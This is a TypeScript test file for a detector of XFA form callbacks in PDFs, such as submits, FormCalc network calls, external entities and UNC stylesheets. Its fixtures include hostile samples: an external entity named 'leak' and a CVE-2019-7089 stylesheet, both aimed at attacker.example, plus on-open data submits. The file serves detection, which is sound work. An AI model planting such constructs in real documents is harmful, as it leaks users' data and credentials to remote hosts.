import { describe, expect, it } from "vitest";
import { defaultBudget } from "../../limits";
import { attribute, collectXfaCallbacks } from "./xfa-callbacks";

const template = (body: string) =>
  `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">${body}</subform></template></xdp:xdp>`;

describe("collectXfaCallbacks", () => {
  it.each([
    [
      "a submit on initialize",
      `<field name="f"><event activity="initialize"><submit format="xml" target="https://collect.example/x"/></event></field>`,
      { element: "<submit>", target: "https://collect.example/x", event: "initialize", onOpen: true },
    ],
    [
      "a SOAP submit whose address is an HTML form's action attribute (malicious-pdf test48)",
      `<field name="f"><event activity="initialize"><submit method="soap" action="https://collect.example/soap" soapAction="urn:ping"/></event></field>`,
      { element: "<submit>", target: "https://collect.example/soap", event: "initialize", onOpen: true },
    ],
    [
      "a submit button",
      `<field name="b"><event activity="click"><submit target="https://forms.example/post"/></event></field>`,
      { element: "<submit>", event: "click", onOpen: false },
    ],
    [
      "a submit in an event without activity (a click)",
      `<field name="b"><event><submit target="mailto:a@example.com"/></event></field>`,
      { element: "<submit>", kind: "mail", event: "click", onOpen: false },
    ],
    [
      "FormCalc Get on docReady",
      `<event activity="docReady"><script>var x = Get("https://example.com/beacon")</script></event>`,
      { element: "FormCalc Get", target: "https://example.com/beacon", onOpen: true },
    ],
    [
      "FormCalc POST in upper case on initialize",
      `<event activity="initialize"><script contentType="application/x-formcalc">POST("http://example.com/c", $.rawValue)</script></event>`,
      { element: "FormCalc Post", onOpen: true },
    ],
    [
      "FormCalc Put with a computed URL in a calculate script",
      `<calculate><script>Put(Concat("http://", host), "x")</script></calculate>`,
      { element: "FormCalc Put", target: "(computed)", kind: "computed", onOpen: true },
    ],
    [
      "FormCalc $host.gotoURL on click",
      `<event activity="click"><script>$host.gotoURL("https://example.com/")</script></event>`,
      { element: "FormCalc $host.gotoURL", onOpen: false },
    ],
    [
      "an external entity",
      `<!DOCTYPE x [ <!ENTITY leak SYSTEM "file://attacker.example/share/x"> ]>`,
      { element: "<!ENTITY leak SYSTEM> (external entity)", kind: "file-host", onOpen: true },
    ],
    [
      "an external parameter entity with a public id",
      `<!DOCTYPE x [ <!ENTITY % p PUBLIC "-//X//EN" "http://example.com/x.dtd"> %p; ]>`,
      { element: "<!ENTITY % p PUBLIC> (external entity)", target: "http://example.com/x.dtd" },
    ],
    [
      "an external DTD",
      `<!DOCTYPE xdp SYSTEM "\\\\host\\share\\x.dtd">`,
      { element: "<!DOCTYPE xdp SYSTEM> (external DTD)", kind: "unc", onOpen: true },
    ],
    [
      "a remote image",
      `<draw><value><image href="https://cdn.example/t.png" contentType="image/png"/></value></draw>`,
      { element: "<image href>", onOpen: true },
    ],
    [
      "an XSLT stylesheet on a share (CVE-2019-7089)",
      `<?xml-stylesheet type="text/xsl" href="\\\\attacker.example\\share\\x.xsl"?>`,
      { element: "<?xml-stylesheet href?>", kind: "unc", onOpen: true },
    ],
    [
      "a remote exData",
      `<exData href="http://example.com/x.html" contentType="text/html"/>`,
      { element: "<exData href>", onOpen: true },
    ],
  ])("%s", (_name, body, expected) => {
    const found = collectXfaCallbacks(template(body), defaultBudget());
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject(expected);
  });

  it("reports a data connection, executed on open or not", () => {
    const connections = `<connectionSet xmlns="http://www.xfa.org/schema/xfa-connection-set/2.8/"><wsdlConnection name="svc" dataDescription="d"><wsdlAddress>https://svc.example/?wsdl</wsdlAddress><soapAddress>https://svc.example/soap</soapAddress></wsdlConnection></connectionSet>`;
    const onOpen = collectXfaCallbacks(
      template(`<event activity="initialize"><execute connection="svc" runAt="client" executeType="import"/></event>`) +
        connections,
      defaultBudget(),
    );
    expect(onOpen.map((c) => [c.element, c.onOpen])).toEqual([
      ['<wsdlConnection "svc"> <wsdlAddress>', true],
      ['<wsdlConnection "svc"> <soapAddress>', true],
    ]);
    const byScript = collectXfaCallbacks(
      template(
        `<event activity="docReady"><script contentType="application/x-javascript">xfa.connectionSet.svc.execute(0);</script></event>`,
      ) + connections,
      defaultBudget(),
    );
    expect(byScript.every((c) => c.onOpen)).toBe(true);
    const onClick = collectXfaCallbacks(
      template(`<event activity="click"><execute connection="svc"/></event>`) + connections,
      defaultBudget(),
    );
    expect(onClick.map((c) => c.onOpen)).toEqual([false, false]);
  });

  it("reports nothing for local hrefs, internal entities, rich-text links, script objects and JavaScript", () => {
    const body = [
      `<!DOCTYPE x [ <!ENTITY nbsp "&#160;"> ]>`,
      `<?xml-stylesheet type="text/xsl" href="form.xsl"?>`,
      `<image href=".\\Resources\\logo.png"/>`,
      `<exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><p><a href="https://www.example.gov/help">help</a></p></body></exData>`,
      `<variables><script name="lib">function send() { Post("https://example.com/x", 1) }</script></variables>`,
      `<event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("https://example.com/")</script></event>`,
      `<!-- <submit target="https://example.com/commented"/> -->`,
    ].join("");
    expect(collectXfaCallbacks(template(body), defaultBudget()).map((c) => [c.element, c.onOpen])).toEqual([
      ["FormCalc Post", false],
    ]);
  });

  it("stays linear on a huge form of unclosed tags and events", () => {
    const xml = `${"<event activity='initialize'>".repeat(100_000)}${"<a ".repeat(200_000)}`;
    expect(collectXfaCallbacks(xml, defaultBudget())).toEqual([]);
  });
});

describe("attribute", () => {
  it("reads a quoted attribute, entities decoded, and not a longer name ending the same", () => {
    expect(attribute(`submit xtarget="no" target='https://a.example/?a=1&amp;b=2'`, "target")).toBe(
      "https://a.example/?a=1&b=2",
    );
    expect(attribute(`submit target = "x"`, "target")).toBe("x");
    expect(attribute(`submit format="xml"`, "target")).toBeUndefined();
  });
});
